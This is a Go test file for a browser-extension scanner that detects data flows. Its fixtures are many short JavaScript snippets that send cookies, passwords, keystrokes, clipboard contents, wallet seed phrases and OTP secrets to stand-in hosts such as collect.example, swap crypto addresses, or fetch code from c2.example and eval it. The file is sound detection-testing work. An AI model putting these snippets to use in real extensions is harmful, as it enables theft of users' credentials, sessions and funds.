package flow

import (
	"slices"
	"strings"
	"testing"

	"github.com/extwatch/extwatch/signatures/behavior"
)

// A library for messages keeps the listeners in a table, in a method of its own that is too long for a helper.
func TestFlowsThroughALibraryForMessages(t *testing.T) {
	long := strings.Repeat("log.level > 2 && log.write(name, log.level); ", 20)
	library := "function bus(e) { let root; const table = {}, log = {level: 1, write(){}}; return {" +
		"onMessage(name, fn) { " + long + "if (root == null && (root = e.listen(m => { " + long + "const known = table[m.type]; if (known != null) return known(m) })), table[name] != null) throw Error(name); table[name] = fn }, " +
		"async sendMessage(name, data) { " + long + "return await e.send({type: name, data}) } } } " +
		"function mine(e) { return bus({...e, send(m) { return chrome.runtime.sendMessage(m) }, listen(fn) { const on = (m) => fn({...m}); return chrome.runtime.onMessage.addListener(on), () => chrome.runtime.onMessage.removeListener(on) }}) } " +
		"const {sendMessage, onMessage} = mine(); "
	r := analyzeText(t,
		testUnit(t, "b.js", behavior.Background, library+`onMessage("a", ({data}) => { fetch("https://collect.example/", {body: data}) })`),
		testUnit(t, "c.js", behavior.Content, library+`sendMessage("a", document.cookie)`))
	if got := flowTexts(r); !slices.ContainsFunc(got, func(s string) bool { return strings.HasSuffix(s, "> fetch > collect.example") }) {
		t.Errorf("flows %v", got)
	}
}

func TestFlowsOfSourcesAndSinks(t *testing.T) {
	const page = "https://www.exchange.test/*"
	for _, c := range []flowCase{
		// Sources.
		{"document.cookie", behavior.Content, `fetch("https://collect.example/?c=" + document.cookie)`, []string{"document.cookie(" + page + ") > fetch > collect.example"}},
		{"request headers", "", `chrome.webRequest.onBeforeSendHeaders.addListener(d => { const h = d.requestHeaders.find(x => x.name == "Authorization"); fetch("https://collect.example/", {body: h.value}) }, {urls: ["*://*.exchange.test/*"]}, ["requestHeaders"])`, []string{"request_headers(*://*.exchange.test/*) > fetch > collect.example"}},
		{"request body", "", `chrome.webRequest.onBeforeRequest.addListener(d => { navigator.sendBeacon("https://collect.example/", JSON.stringify(d.requestBody)) }, {urls: ["<all_urls>"]}, ["requestBody"])`, []string{"request_body(<all_urls>) > beacon > collect.example"}},
		{"cookie watcher", "", `chrome.cookies.onChanged.addListener(i => fetch("https://collect.example/", {body: JSON.stringify(i.cookie)}))`, []string{"cookies > fetch > collect.example"}},
		{"local storage item", behavior.Content, `fetch("https://collect.example/", {body: localStorage.getItem("user_auth")})`, []string{"storage_token(user_auth) > fetch > collect.example"}},
		{"local storage dump", behavior.Content, `fetch("https://collect.example/", {body: JSON.stringify(localStorage)})`, []string{"storage_token > fetch > collect.example"}},
		{"local storage loop", behavior.Content, `const o = {}; for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); o[k] = localStorage.getItem(k) } fetch("https://collect.example/", {body: JSON.stringify(o)})`, []string{"storage_token > fetch > collect.example"}},
		{"local storage entries", behavior.Content, `fetch("https://collect.example/", {body: JSON.stringify(Object.entries(sessionStorage))})`, []string{"storage_token > fetch > collect.example"}},
		{"password", behavior.Content, `document.addEventListener("submit", () => { const p = document.querySelector("input[type=password]").value; fetch("https://collect.example/", {body: p}) })`, []string{"password_field(input[type=password]) > fetch > collect.example"}},
		{"all passwords", behavior.Content, `document.querySelectorAll('input[type="password"]').forEach(i => fetch("https://collect.example/?p=" + i.value))`, []string{`password_field(input[type="password"]) > fetch > collect.example`}},
		{"one-time code", behavior.Content, `const c = document.getElementById("otp").value; new Image().src = "https://collect.example/?c=" + c`, []string{"otp_field(#otp) > image > collect.example"}},
		{"seed in a popup", behavior.Popup, `document.getElementById("import").onclick = () => { const w = document.getElementById("mnemonic").value; fetch("https://collect.example/", {method: "POST", body: w}) }`, []string{"seed_input(#mnemonic) > fetch > collect.example"}},
		{"seed by name", behavior.Background, `class Vault { async unlock(p) { const v = await this.decrypt(p); post(v.mnemonic) } } function post(m) { fetch("https://collect.example/", {body: m}) }`, []string{"seed_input(mnemonic) > fetch > collect.example"}},
		{"seed in storage", behavior.Background, `chrome.storage.local.get("vault", async ({vault}) => { const v = JSON.parse(await unseal(vault)); fetch("https://collect.example/", {body: v.mnemonic}) })`, []string{"seed_input(mnemonic) > fetch > collect.example"}},
		{"secret of codes", behavior.Background, `async function add(entry) { const e = await entry; navigator.sendBeacon("https://collect.example/", e.totpSecret) }`, []string{"otp_field(totpSecret) > beacon > collect.example"}},
		{"keys", behavior.Content, `let buf = ""; document.addEventListener("keydown", e => { buf += e.key }, true); setInterval(() => fetch("https://collect.example/", {body: buf}), 1000)`, []string{"key_events(keydown) > fetch > collect.example"}},
		{"onkeypress", behavior.Content, `document.onkeypress = function(e){ new Image().src = "https://collect.example/?k=" + e.keyCode }`, []string{"key_events(keypress) > image > collect.example"}},
		{"clipboard", behavior.Content, `navigator.clipboard.readText().then(t => fetch("https://collect.example/", {body: t}))`, []string{"clipboard > fetch > collect.example"}},
		{"paste", behavior.Content, `document.addEventListener("paste", e => fetch("https://collect.example/", {body: e.clipboardData.getData("text")}))`, []string{"clipboard > fetch > collect.example"}},
		{"page text", behavior.Content, `fetch("https://collect.example/", {body: document.documentElement.outerHTML})`, []string{"page_text(" + page + ") > fetch > collect.example"}},
		{"element text", behavior.Content, `const k = document.querySelector(".secret").innerText; fetch("https://collect.example/", {body: k})`, []string{"page_text(" + page + ") > fetch > collect.example"}},
		{"pushed here, sent there", behavior.Content, `let b = []; setInterval(() => fetch("https://collect.example/", {body: JSON.stringify(b)}), 9); document.addEventListener("keydown", e => b.push(e.key))`, []string{"key_events(keydown) > fetch > collect.example"}},
		{"type of a field", behavior.Content, `const els = document.querySelectorAll("input"); function all() { const a = []; for (const i of els) if (i.type == "password") a.push(i.value); return a } fetch("https://collect.example/", {body: all()})`, []string{"form_data(input) > fetch > collect.example"}},
		{"result of a text", behavior.Background, `chrome.tabs.executeScript(null, {code: "document.cookie"}, r => fetch("https://collect.example/", {body: r[0]}))`, []string{"document.cookie > fetch > collect.example"}},
		{"stored list", behavior.Background, `chrome.cookies.getAll({}, async c => { const {log = []} = await chrome.storage.local.get("log"); log.push(c); chrome.storage.local.set({log}) }); chrome.alarms.onAlarm.addListener(async () => { const {log} = await chrome.storage.local.get("log"); fetch("https://collect.example/", {body: log}) })`, []string{"cookies > fetch > collect.example"}},
		{"data channel", behavior.Content, `const ch = new RTCPeerConnection().createDataChannel("x"); ch.onopen = () => ch.send(document.cookie)`, []string{"document.cookie(" + page + ") > webrtc > *"}},
		{"removed", behavior.Background, `chrome.cookies.getAll({}, c => chrome.runtime.setUninstallURL("https://collect.example/?" + JSON.stringify(c)))`, []string{"cookies > navigation > collect.example"}},
		{"frame of a site", behavior.Content, `const f = document.createElement("iframe"); f.contentWindow.postMessage(document.cookie, "https://collect.example")`, []string{"document.cookie(" + page + ") > iframe > collect.example"}},
		{"setter", behavior.Content, `const set = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value").set; set.call(document.querySelector("input"), "0x7f3aE1c09B5d24468a0b7C9e35D1f02284a6cE19")`, []string{"constant_address(0x7f3aE1c09B5d24468a0b7C9e35D1f02284a6cE19) > dom_value"}},
		{"form", behavior.Content, `document.forms[0].addEventListener("submit", e => fetch("https://collect.example/", {body: new FormData(e.target)}))`, []string{"form_data(form) > fetch > collect.example"}},
		{"screenshot", "", `chrome.tabs.captureVisibleTab(null, {}, d => fetch("https://collect.example/", {body: d}))`, []string{"screenshot > fetch > collect.example"}},
		{"history", "", `chrome.history.search({text: ""}, h => fetch("https://collect.example/", {body: JSON.stringify(h)}))`, []string{"history > fetch > collect.example"}},
		{"tabs", "", `chrome.tabs.query({}, t => fetch("https://collect.example/", {body: t.map(x => x.url).join()}))`, []string{"tab_urls > fetch > collect.example"}},
		{"management", "", `chrome.management.getAll(l => fetch("https://collect.example/", {body: JSON.stringify(l)}))`, []string{"management > fetch > collect.example"}},
		{"debugger", "", `chrome.debugger.onEvent.addListener((s, m, p) => fetch("https://collect.example/", {body: p.response.body}))`, []string{"debugger > fetch > collect.example"}},
		// Sinks.
		{"xhr", "", `chrome.cookies.getAll({}, c => { const x = new XMLHttpRequest(); x.open("POST", "https://collect.example/"); x.send(JSON.stringify(c)) })`, []string{"cookies > xhr > collect.example"}},
		{"beacon", "", `chrome.cookies.getAll({}, c => navigator.sendBeacon("https://collect.example/", c))`, []string{"cookies > beacon > collect.example"}},
		{"socket", "", `const w = new WebSocket("wss://collect.example/ws"); w.onopen = () => chrome.cookies.getAll({}, c => w.send(JSON.stringify(c)))`, []string{"cookies > websocket > collect.example"}},
		{"socket in a class", "", `class C { constructor(){ this.ws = new WebSocket("wss://collect.example/") } send(o){ this.ws.send(JSON.stringify(o)) } } const c = new C(); chrome.cookies.getAll({}, x => c.send({x}))`, []string{"cookies > websocket > collect.example"}},
		{"image", "", `chrome.cookies.getAll({}, c => { const i = document.createElement("img"); i.src = "https://collect.example/?c=" + c[0].value })`, []string{"cookies > image > collect.example"}},
		{"script", behavior.Content, `const s = document.createElement("script"); s.src = "https://collect.example/?c=" + document.cookie; document.head.appendChild(s)`, []string{"document.cookie(" + page + ") > script_src > collect.example"}},
		{"frame", behavior.Content, `const s = document.createElement("iframe"); s.setAttribute("src", "https://collect.example/?c=" + document.cookie); document.body.append(s)`, []string{"document.cookie(" + page + ") > iframe > collect.example"}},
		{"form submit", behavior.Content, `const f = document.createElement("form"); f.action = "https://collect.example/"; const i = document.createElement("input"); i.value = document.cookie; f.appendChild(i); f.submit()`, []string{"document.cookie(" + page + ") > form_submit > collect.example"}},
		{"location", behavior.Content, `location.href = "https://collect.example/?c=" + document.cookie`, []string{"document.cookie(" + page + ") > navigation > collect.example"}},
		{"tab", "", `chrome.cookies.getAll({}, c => chrome.tabs.create({url: "https://collect.example/?c=" + c[0].value}))`, []string{"cookies > navigation > collect.example"}},
		{"native", "", `chrome.cookies.getAll({}, c => chrome.runtime.sendNativeMessage("host", {c}))`, []string{"cookies > native_message"}},
		{"jquery", behavior.Content, `$.ajax({url: "https://collect.example/", type: "POST", data: {c: document.cookie}})`, []string{"document.cookie(" + page + ") > http_client > collect.example"}},
		{"jquery post", behavior.Content, `$.post("https://collect.example/", {p: $("#password").val()})`, []string{"password_field(#password) > http_client > collect.example"}},
		{"axios", "", `chrome.cookies.getAll({}, c => axios.post("https://collect.example/", c))`, []string{"cookies > http_client > collect.example"}},
		{"unknown client", "", `chrome.cookies.getAll({}, c => ky.post("https://collect.example/", {json: c}))`, []string{"cookies > http_client > collect.example"}},
		{"unknown host", "", `chrome.storage.local.get("c2", r => chrome.cookies.getAll({}, c => fetch(r.c2, {body: JSON.stringify(c)})))`, []string{"cookies > fetch > *"}},
		// Reverse flows.
		{"eval", "", `fetch("https://c2.example/").then(r => r.text()).then(t => eval(t))`, []string{"network(c2.example) > eval"}},
		{"Function", "", `fetch("https://c2.example/").then(r => r.text()).then(t => new Function(t)())`, []string{"network(c2.example) > eval"}},
		{"timer", "", `fetch("https://c2.example/").then(async r => setTimeout(await r.text(), 10))`, []string{"network(c2.example) > timer_string"}},
		{"xhr to eval", "", `var x = new XMLHttpRequest(); x.open("GET", "https://c2.example/"); x.onload = function(){ eval(x.responseText) }; x.send()`, []string{"network(c2.example) > eval"}},
		{"storage to attribute", behavior.Content, `chrome.storage.local.get("p", r => { const i = document.createElement("img"); i.setAttribute("onload", r.p); document.body.append(i) })`, []string{"storage(p) > on_attribute"}},
		{"storage to script", behavior.Content, `chrome.storage.local.get(["code"], ({code}) => { const s = document.createElement("script"); s.textContent = code; document.head.append(s) })`, []string{"storage(code) > script_text"}},
		{"socket to html", behavior.Content, `const w = new WebSocket("wss://c2.example/"); w.onmessage = e => { document.body.innerHTML = e.data }`, []string{"network(c2.example) > dom_value", "network(c2.example) > inner_html"}},
		{"network to frame", behavior.Content, `fetch("https://c2.example/").then(r => r.json()).then(j => { const f = document.createElement("iframe"); f.src = j.url; document.body.append(f) })`, []string{"network(c2.example) > iframe > *"}},
		{"network to tab", "", `fetch("https://c2.example/").then(r => r.json()).then(j => chrome.tabs.update(1, {url: j.url}))`, []string{"network(c2.example) > navigation > *"}},
		{"network to rules", "", `fetch("https://c2.example/").then(r => r.json()).then(rules => chrome.declarativeNetRequest.updateDynamicRules({addRules: rules}))`, []string{"network(c2.example) > header_rules"}},
		{"network to injected code", "", `fetch("https://c2.example/").then(r => r.text()).then(code => chrome.tabs.executeScript(1, {code}))`, []string{"network(c2.example) > execute_script"}},
		{"network to page value", behavior.Content, `fetch("https://c2.example/").then(r => r.json()).then(j => { document.querySelector("#address").value = j.a })`, []string{"network(c2.example) > dom_value"}},
		{"network to cookies", "", `fetch("https://c2.example/").then(r => r.json()).then(l => l.forEach(c => chrome.cookies.set(c)))`, []string{"network(c2.example) > set_cookie"}},
		{"constant address", behavior.Content, `document.querySelector("#address").value = "0x52908400098527886E0F7030069857D2E4169EE7"`, []string{"constant_address(0x52908400098527886E0F7030069857D2E4169EE7) > dom_value"}},
		{"address table", behavior.Content, `const a = {btc: "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", eth: "0x52908400098527886E0F7030069857D2E4169EE7"}; document.addEventListener("copy", e => { for (const k in a) e.clipboardData.setData("text/plain", a[k]) })`, []string{"constant_address(0x52908400098527886E0F7030069857D2E4169EE7) > clipboard", "constant_address(1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa) > clipboard"}},
		{"address by pattern", behavior.Content, `navigator.clipboard.readText().then(t => { if (/^0x/.test(t)) navigator.clipboard.writeText(t.replace(/0x[0-9a-f]{40}/i, "0x52908400098527886E0F7030069857D2E4169EE7")) })`, []string{"constant_address(0x52908400098527886E0F7030069857D2E4169EE7) > clipboard"}},
		{"copy command", behavior.Content, `const t = document.createElement("textarea"); t.value = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"; document.body.append(t); t.select(); document.execCommand("copy")`, []string{"constant_address(bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4) > clipboard"}},
		{"wallet request", behavior.PageWorld, `window.ethereum.request({method: "eth_sendTransaction", params: [{to: "0x52908400098527886E0F7030069857D2E4169EE7"}]})`, []string{"constant_address(0x52908400098527886E0F7030069857D2E4169EE7) > wallet_request"}},
		{"hook", behavior.PageWorld, `const f = window.fetch; window.fetch = async function(u, o){ const b = o.body; f("https://collect.example/", {body: b}); return f(u, o) }`, []string{"request_body(" + page + ") > fetch > collect.example"}},
		{"xhr to eval, opened last", behavior.Content, `function get(url, done) { var x = new XMLHttpRequest(); x.onload = () => done(x.responseText); x.open("GET", url); x.send() } get("https://c2.example:8443/js", eval)`, []string{"network(c2.example:8443) > eval"}},
		// Places that somebody has to fill in.
		{"webhook to fill in", "", `const HOOK = "PUT YOUR WEBHOOK HERE"; chrome.cookies.getAll({}, c => fetch(HOOK, {method: "POST", body: JSON.stringify(c)}))`, []string{"cookies > fetch > *"}},
		{"server to fill in", behavior.Content, `document.addEventListener("keydown", e => fetch("http://YOUR_SERVER:8080/k?" + e.key))`, []string{"key_events(keydown) > fetch > *"}},
		{"address between brackets", behavior.Content, `document.addEventListener("keydown", e => fetch("http://<IP>:5000/api/k", {method: "POST", body: e.key}))`, []string{"key_events(keydown) > fetch > *"}},
		{"hook to fill in", behavior.Content, `const x = new XMLHttpRequest(); x.open("POST", "---YOUR HOOK---"); x.send(document.cookie)`, []string{"document.cookie(" + page + ") > xhr > *"}},
		{"host between brackets", behavior.Content, `navigator.sendBeacon("<your api url>", document.cookie)`, []string{"document.cookie(" + page + ") > beacon > *"}},
		{"nothing filled in", behavior.Content, `const HOOK = ""; fetch(HOOK, {method: "POST", body: document.cookie})`, []string{"document.cookie(" + page + ") > fetch > *"}},
		// Code and addresses in texts.
		{"script element", behavior.Content, "const code = `document.addEventListener('keydown', e => fetch('https://collect.example/?' + e.key))`; const s = document.createElement('script'); s.textContent = code; document.head.append(s)", []string{"key_events(keydown) > fetch > collect.example"}},
		{"script element, text node", behavior.Content, `const s = document.createElement("script"); s.appendChild(document.createTextNode("new Image().src = 'https://collect.example/?' + document.cookie")); document.head.append(s)`, []string{"document.cookie(" + page + ") > image > collect.example"}},
		{"script element with a gap", behavior.Content, "const s = document.createElement('script'); s.innerHTML = `const id = '${chrome.runtime.id}', n = ${Date.now()}; fetch('https://collect.example/' + n, {body: document.cookie})`; document.head.append(s)", []string{"document.cookie(" + page + ") > fetch > collect.example"}},
		{"javascript address", behavior.Content, `location.href = "javascript:fetch('https://collect.example/', {method: 'POST', body: document.cookie})"`, []string{"document.cookie(" + page + ") > fetch > collect.example"}},
		{"written picture", behavior.Content, `const host = "https://collect.example/"; document.write('<img src="' + host + "?c=" + escape(document.cookie) + '">')`, []string{"document.cookie(" + page + ") > image > collect.example"}},
		{"requests led away", "", `chrome.webRequest.onBeforeRequest.addListener(d => { if (!d.url.includes("/app")) return {}; return {redirectUrl: "https://login.collect.example/"} }, {urls: ["*://*.exchange.test/*"]}, ["blocking"])`, []string{"constant(*://*.exchange.test/*) > redirect_rules > login.collect.example"}},
		{"turned form", behavior.Content, `document.querySelector("form.login").action = "https://collect.example/in.php"`, []string{"form_data(form[action]) > form_submit > collect.example"}},
		{"socket.io", "", `const s = io("https://collect.example:3000"); chrome.cookies.getAll({}, c => s.emit("jar", {c})); s.on("run", code => eval(code))`, []string{"cookies > websocket > collect.example:3000", "network(collect.example:3000) > eval"}},
		// Across contexts, within one script.
		{"injected function", "", `chrome.scripting.executeScript({target: {tabId: 1}, func: () => document.cookie}, r => fetch("https://collect.example/", {body: r[0].result}))`, []string{"document.cookie > fetch > collect.example"}},
		{"stored", "", `chrome.cookies.getAll({}, c => chrome.storage.local.set({jar: c})); chrome.alarms.onAlarm.addListener(() => chrome.storage.local.get("jar", r => fetch("https://collect.example/", {body: JSON.stringify(r.jar)})))`, []string{"cookies > fetch > collect.example"}},
		{"stored, promise", "", `async function a(){ const {jar} = await chrome.storage.local.get({jar: []}); fetch("https://collect.example/", {body: jar}) } chrome.cookies.getAll({}, async c => { await chrome.storage.local.set({jar: c}); a() })`, []string{"cookies > fetch > collect.example"}},
		{"storage changes", "", `chrome.storage.onChanged.addListener(c => fetch("https://collect.example/", {body: c.jar.newValue})); chrome.cookies.getAll({}, jar => chrome.storage.local.set({jar}))`, []string{"cookies > fetch > collect.example"}},
	} {
		t.Run(c.name, c.run)
	}
}

func TestHonestScriptsHaveNoFlows(t *testing.T) {
	for _, c := range []flowCase{
		{"export on click", "", `chrome.action.onClicked.addListener(() => chrome.cookies.getAll({}, c => { document.querySelector("pre").textContent = JSON.stringify(c) }))`, nil},
		{"count only", "", `chrome.cookies.getAll({}, c => fetch("https://vendor.test/", {body: c.length}))`, nil},
		{"test only", "", `chrome.cookies.getAll({}, c => { const has = c.some(x => x.name == "a"); fetch("https://vendor.test/", {body: JSON.stringify({has})}) })`, nil},
		{"constant request", "", `fetch("https://vendor.test/ping", {method: "POST", body: "hello"})`, nil},
		{"another value", "", `chrome.cookies.getAll({}, c => { let d = c; d = "none"; fetch("https://vendor.test/", {body: d}) })`, nil},
		{"another function's argument", "", `function id(x){ return x } id(document.cookie); fetch("https://vendor.test/", {body: id("a")})`, nil},
		{"another message", "", `chrome.runtime.onMessage.addListener(m => { if (m.type == "ping") fetch("https://vendor.test/", {body: m.data}) }); chrome.cookies.getAll({}, data => chrome.runtime.sendMessage({type: "jar", data}))`, nil},
		{"another key", "", `chrome.cookies.getAll({}, c => chrome.storage.local.set({jar: c})); chrome.storage.local.get("other", r => fetch("https://vendor.test/", {body: r.other}))`, nil},
		{"another field", "", `const s = {a: 1}; chrome.cookies.getAll({}, c => { s.jar = c }); fetch("https://vendor.test/", {body: s.a})`, nil},
		{"relative address", behavior.Content, `fetch("/api/session", {body: document.cookie})`, nil},
		{"address that a build fills in", behavior.Background, `chrome.cookies.getAll({}, c => fetch("__API_URL__/x", {body: c}))`, nil},
		{"a path like a word", behavior.Content, `fetch("webhook", {method: "POST", body: document.cookie})`, nil},
		{"paths of the site", behavior.Content, `fetch("here/api", {body: document.cookie}); fetch("/your/api/url", {body: document.cookie}); fetch("change-address", {body: document.cookie}); fetch("[object Object]", {body: document.cookie}); document.forms[0].action = ""`, nil},
		{"HTML with a picture and a text", behavior.Content, `document.body.innerHTML = '<img src="https://icons.example/' + id + '.png"><p>' + getSelection() + "</p>"`, nil},
		{"form of its own", behavior.Content, `const f = document.createElement("form"); f.action = "https://search.example/"; document.body.append(f)`, nil},
		{"own resource", behavior.Content, `fetch(chrome.runtime.getURL("data.json") + "?" + document.cookie)`, nil},
		{"network to text of own element", behavior.Content, `fetch("https://vendor.test/").then(r => r.text()).then(t => { const d = document.createElement("div"); d.textContent = t })`, nil},
		{"network to own page", behavior.Popup, `fetch("https://vendor.test/").then(r => r.text()).then(t => { document.getElementById("x").textContent = t })`, nil},
		{"address as text", behavior.Background, `console.log("0x52908400098527886E0F7030069857D2E4169EE7")`, nil},
		{"a place that is no number", "", `const a = [1, 2]; a.slice(parseInt("x")); a.slice("x"); a.slice(NaN); [3].slice(-1 / 0)`, nil},
		{"address filler", behavior.Content, `document.querySelector("#a").value = "0x0000000000000000000000000000000000000000"`, nil},
		{"shadowed", "", `(function(chrome){ chrome.cookies.getAll({}, c => fetch("https://vendor.test/", {body: c})) })({cookies: {getAll(q, f){ f([]) }}})`, nil},
		{"typed only when used", behavior.Content, `document.addEventListener("keydown", e => { if (e.key == "Escape") close() })`, nil},
		{"tab moved", "", `chrome.tabs.query({}, t => chrome.tabs.update(t[0].id, {active: true}))`, nil},
		{"password strength", behavior.Content, `const p = document.querySelector("input[type=password]"); const n = p.value.length; fetch("https://vendor.test/?n=" + n)`, nil},
	} {
		t.Run(c.name, c.run)
	}
}

func TestFlowsBetweenScripts(t *testing.T) {
	bg := func(s string) *Script { return testUnit(t, "bg.js", behavior.Background, s) }
	cs := func(s string) *Script { return testUnit(t, "cs.js", behavior.Content, s) }
	for _, c := range []struct {
		name    string
		scripts []*Script
		flows   []string
	}{
		{"message", []*Script{cs(`chrome.runtime.sendMessage({type: "c", data: document.cookie})`),
			bg(`chrome.runtime.onMessage.addListener((m, s, r) => { switch (m.type) { case "c": fetch("https://collect.example/", {body: m.data}) } })`)},
			[]string{"document.cookie(https://www.exchange.test/*) > fetch > collect.example"}},
		{"answer", []*Script{cs(`chrome.runtime.sendMessage({type: "get"}, r => { const s = document.createElement("script"); s.textContent = r.code; document.head.append(s) })`),
			bg(`chrome.runtime.onMessage.addListener((m, s, reply) => { fetch("https://c2.example/").then(r => r.text()).then(code => reply({code})); return true })`)},
			[]string{"network(c2.example) > script_text"}},
		{"promise answer", []*Script{cs(`(async () => { const r = await browser.runtime.sendMessage({type: "get"}); eval(r.code) })()`),
			bg(`browser.runtime.onMessage.addListener(async m => { const r = await fetch("https://c2.example/"); return {code: await r.text()} })`)},
			[]string{"network(c2.example) > eval"}},
		{"to a tab", []*Script{bg(`chrome.cookies.getAll({}, c => chrome.tabs.sendMessage(1, {c}))`),
			cs(`chrome.runtime.onMessage.addListener(m => { new Image().src = "https://collect.example/?" + JSON.stringify(m.c) })`)},
			[]string{"cookies > image > collect.example"}},
		{"port", []*Script{cs(`const p = chrome.runtime.connect({name: "x"}); p.postMessage({c: document.cookie})`),
			bg(`chrome.runtime.onConnect.addListener(p => p.onMessage.addListener(m => fetch("https://collect.example/", {body: m.c})))`)},
			[]string{"document.cookie(https://www.exchange.test/*) > fetch > collect.example"}},
		{"window message", []*Script{testUnit(t, "page.js", behavior.PageWorld, `window.postMessage({from: "x", token: localStorage.getItem("jwt")}, "*")`),
			cs(`window.addEventListener("message", e => { if (e.data.from == "x") fetch("https://collect.example/", {body: e.data.token}) })`)},
			[]string{"storage_token(jwt) > fetch > collect.example"}},
		{"storage", []*Script{cs(`chrome.storage.local.set({t: localStorage.getItem("jwt")})`),
			bg(`chrome.storage.local.get(null, all => fetch("https://collect.example/", {body: JSON.stringify(all)}))`)},
			[]string{"storage_token(jwt) > fetch > collect.example"}},
		{"shared global", []*Script{cs(`var send = d => fetch("https://collect.example/", {body: d})`), testUnit(t, "cs2.js", behavior.Content, `send(document.cookie)`)},
			[]string{"document.cookie(https://www.exchange.test/*) > fetch > collect.example"}},
		{"window property", []*Script{testUnit(t, "cs2.js", behavior.Content, `setTimeout(() => window.out(document.cookie), 1)`), cs(`window.out = d => fetch("https://collect.example/", {body: d})`)},
			[]string{"document.cookie(https://www.exchange.test/*) > fetch > collect.example"}},
		{"module", []*Script{module(t, "js/out.js", `export const host = "collect.example"; export default function out(d){ fetch("https://" + host, {body: d}) }`),
			module(t, "bg.js", `import out from "./js/out.js"; chrome.cookies.getAll({}, out)`)},
			[]string{"cookies > fetch > collect.example"}},
		{"module namespace", []*Script{module(t, "bg.js", `import * as net from "./net.js"; chrome.cookies.getAll({}, c => net.send(c))`),
			module(t, "net.js", `function post(d){ fetch("https://collect.example/", {body: d}) } export { post as send }`)},
			[]string{"cookies > fetch > collect.example"}},
		{"dynamic import", []*Script{bg(`import("./net.js").then(n => chrome.cookies.getAll({}, c => n.send(c)))`),
			module(t, "net.js", `export function send(d){ fetch("https://collect.example/", {body: d}) }`)},
			[]string{"cookies > fetch > collect.example"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := flowTexts(analyzeText(t, c.scripts...))
			if !slices.Equal(got, c.flows) {
				t.Errorf("flows:\n  got  %s\n  want %s", strings.Join(got, "\n       "), strings.Join(c.flows, "\n       "))
			}
		})
	}
}

func module(t *testing.T, file, text string) *Script {
	u := testUnit(t, file, behavior.Background, text)
	u.Module = true
	return u
}
